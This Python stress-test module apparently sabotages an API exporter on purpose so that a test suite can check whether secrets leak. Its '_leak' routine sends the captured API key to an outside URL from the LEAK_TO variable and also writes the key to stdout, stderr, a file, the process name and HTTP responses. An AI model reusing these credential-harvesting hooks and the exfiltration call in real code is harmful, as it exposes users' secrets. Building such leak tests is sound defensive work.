"""An exporter with a defect that was put in: `python -m tests.stress.sabotaged DEFECT FLAGS…`.

Each defect raises an exception whose text holds the key, as the libraries' own do, where nobody expects it; the last
one shows the key in every place there is.
"""

import ctypes
import dataclasses
import gzip
import os
import sys
import threading
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import requests

from exporter import __main__
from exporter.api import client as api
from exporter.api import envelope, transport
from exporter.metrics import exposition
from exporter.secret import Secret
from exporter.state import store
from exporter.web import app as web


class Defect(RuntimeError):  # noqa: N818 - it is what was put in
    """Quotes a URL with the key, plain and encoded, as its arguments and its text."""

    def __init__(self, key: str) -> None:
        super().__init__(f"https://api/v1/me?apiKey={quote(key, safe='')} {key!r}", key)
        self.url = key


_keys: list[str] = []


def _before(owner: Any, name: str, act: Callable[[str], object]) -> None:
    """Do something each time before a function is called, with the key that it gets or that was used last."""
    function = getattr(owner, name)

    def wrapped(*arguments: Any, **named: Any) -> Any:
        given = [argument.reveal() for argument in arguments if isinstance(argument, Secret)]
        if known := given or _keys:
            act(known[-1])
        return function(*arguments, **named)

    setattr(owner, name, wrapped)


def _fail(key: str) -> None:
    raise Defect(key) from ValueError(key)


def _fail_in_a_thread(key: str) -> None:
    thread = threading.Thread(target=_fail, args=(key,), name=key)
    thread.start()
    thread.join()


def _fail_unraisably(key: str) -> None:
    class Failing:
        def __del__(self) -> None:
            _fail(key)

    Failing()


def _leak(key: str) -> None:
    """Show the key wherever an exporter can show something. The state directory is the last argument."""
    print(key)
    print(quote(key), file=sys.stderr)
    (Path(sys.argv[-1]) / quote(key, safe="")).write_text(key)
    requests.get(os.environ["LEAK_TO"], params={"apiKey": key}, timeout=5)
    ctypes.CDLL(None).prctl(15, key.encode(), 0, 0, 0)
    _add_to_the_body(web.Application, "answer", key)


def _add_to_the_body(owner: Any, name: str, key: str) -> None:
    function = getattr(owner, name)

    def wrapped(self: Any, given: Any) -> Any:
        shown = function(self, given)
        more = gzip.compress(key.encode()) if shown.body.startswith(b"\x1f\x8b") else key.encode()
        return dataclasses.replace(shown, body=shown.body + more)

    setattr(owner, name, wrapped)


DEFECTS: dict[str, Callable[[], None]] = {
    "asking": lambda: _before(api.Client, "fetch_history", _fail),
    "asking for a month": lambda: _before(api.Client, "fetch_month", _fail),
    "exchanging": lambda: _before(requests.Session, "send", _fail),
    "reading the reply": lambda: _before(transport, "_read_body", _fail),
    "parsing the reply": lambda: _before(envelope, "_json_object", _fail),
    "publishing": lambda: _before(store.Store, "publish", _fail),
    "answering a scrape": lambda: _before(web.Application, "answer", _fail),
    "rendering a scrape": lambda: _before(exposition.Exposition, "render", _fail),
    "a thread": lambda: _before(api.Client, "_get", _fail_in_a_thread),
    "a finalizer": lambda: _before(api.Client, "_get", _fail_unraisably),
    "a warning": lambda: _before(api.Client, "_get", lambda key: warnings.warn(key, stacklevel=1)),
}


def main() -> None:
    """Put the defect in, and be the exporter."""
    reveal = Secret.reveal

    def remember(self: Secret) -> str:
        _keys.append(reveal(self))
        return _keys[-1]

    Secret.reveal = remember  # type: ignore[method-assign]
    defect = sys.argv.pop(1)
    if defect in DEFECTS:
        DEFECTS[defect]()
    else:  # the key itself: a command line with the key in it is a leak too
        _before(api.Client, "_get", _leak)
    __main__.main()


if __name__ == "__main__":
    main()
